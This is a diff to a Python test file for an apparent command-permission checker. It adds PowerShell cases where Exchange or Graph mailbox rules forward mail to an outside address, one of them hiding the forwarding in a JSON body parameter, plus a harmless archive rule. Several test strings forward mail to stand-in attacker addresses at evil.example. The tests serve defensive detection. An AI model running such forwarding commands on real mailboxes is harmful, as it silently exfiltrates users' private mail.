@@ -36,6 +36,9 @@ ASK = ("upload-file", "ask")
         "$p = @{actions=@{redirectTo='x'}}; Update-MgUserMailFolderMessageRule -UserId me -BodyParameter $p",
         "$a = 'attacker@evil.example'; New-InboxRule fwd -ForwardTo $a",
         "New-InboxRule fwd -ForwardTo $args[0]",  # not known: it may be anyone
+        # the forwarding in the second of the rule's parameters
+        """$b = '{"actions": {"forwardTo": "x@evil.example"}}'; """
+        "New-MgUserMailFolderMessageRule -UserId me -Actions @{moveToFolder='x'} -BodyParameter $b",
     ],
 )
 def test_mail_forwarded_from_now_on_asks(command: str) -> None:
@@ -54,6 +57,8 @@ def test_mail_forwarded_from_now_on_asks(command: str) -> None:
         "Get-InboxRule",
         "New-MgUserMailFolderMessageRule -UserId me -BodyParameter @{actions=@{moveToFolder='archive'}}",
         "New-TransportRule -Name tag -SubjectContainsWords x -PrependSubject '[ext] '",
+        # a Graph rule's body given as text that only moves mail: read as it is, not as unknown
+        """$b = '{"actions": {"moveToFolder": "archive"}}'; New-MgUserMailFolderMessageRule -UserId me -BodyParameter $b""",
     ],
 )
 def test_turning_forwarding_off_and_other_rules_stay_ordinary(command: str) -> None:
